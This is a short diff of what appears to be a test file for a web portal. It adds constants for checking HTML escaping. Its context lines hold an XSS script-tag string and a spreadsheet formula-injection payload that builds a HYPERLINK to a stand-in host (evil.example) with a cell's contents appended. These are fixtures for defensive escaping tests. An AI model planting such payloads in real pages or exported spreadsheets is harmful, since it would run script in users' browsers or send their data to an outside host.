@@ -27,6 +27,9 @@ from enclave.portal.sessions import CSRF_COOKIE, SESSION_COOKIE, new_session_id
 PREFIX = "/services/portal/"
 SECRET = b"portal-test-secret-of-32-bytes!!"
 XSS = "<script>alert('xss')</script>"
+#: Text the access workflow accepts (no tag: markup is refused there) that still needs escaping.
+TRICKY = "<10 & \"guillemets\" 'apostrophes' >"
+TRICKY_ESCAPED = "&lt;10 &amp; &#34;guillemets&#34; &#39;apostrophes&#39; &gt;"
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 
